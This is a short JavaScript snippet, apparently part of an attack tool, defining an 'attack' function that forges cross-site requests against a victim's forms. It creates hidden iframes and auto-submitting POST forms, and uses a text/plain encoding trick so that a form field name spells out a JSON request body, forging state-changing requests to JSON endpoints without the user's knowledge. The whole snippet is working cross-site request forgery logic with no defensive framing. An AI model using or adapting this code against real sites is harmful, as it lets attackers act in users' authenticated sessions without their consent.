// A form needs no permission. As text/plain its one field spells JSON: a name, the equals sign in some text, and a value.
const attack = (victim) =>
  each(victim.forms, async ({ path, fields, absorbs }) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `frame${victim.number}${path}` });
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { method: 'post', action: at(victim, path), target: frame.name, enctype: plan.type });
    const before = JSON.stringify({ ...fields, [absorbs]: '' }).slice(0, -2);
    const spelled = plan.type === 'text/plain' ? { [before]: '"}' } : fields;
    for (const [name, value] of Object.entries(spelled)) form.append(Object.assign(document.createElement('input'), { name, value }));
    document.body.append(form);
    const there = new Promise((done) => { frame.onload = done; });
    form.submit();
    await within(2_000, there);
    form.remove();
  });
